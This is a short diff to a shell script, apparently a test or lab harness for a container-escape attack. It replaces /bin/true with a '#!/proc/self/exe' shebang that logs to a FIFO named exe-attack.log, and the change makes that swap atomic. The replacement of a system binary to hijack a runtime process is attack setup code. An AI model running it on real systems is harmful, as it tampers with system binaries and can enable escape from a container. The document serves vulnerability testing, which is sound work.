@@ -11,10 +11,13 @@
 set -u
 fifo=/tmp/exe-attack.log
 mkdir -p /tmp
-rm -f "$fifo" /bin/true
+rm -f "$fifo"
 mkfifo "$fifo"
-printf '#!/proc/self/exe --log=%s\n' "$fifo" > /bin/true
-chmod 755 /bin/true
+# Renamed into place whole: a probe running meanwhile finds the old /bin/true or the new one,
+# never a missing or half-made file (a failure then would look like the trigger having run).
+printf '#!/proc/self/exe --log=%s\n' "$fifo" > /bin/.true.new
+chmod 755 /bin/.true.new
+mv -f /bin/.true.new /bin/true
 echo armed
 pid=
 while [ -z "$pid" ]; do
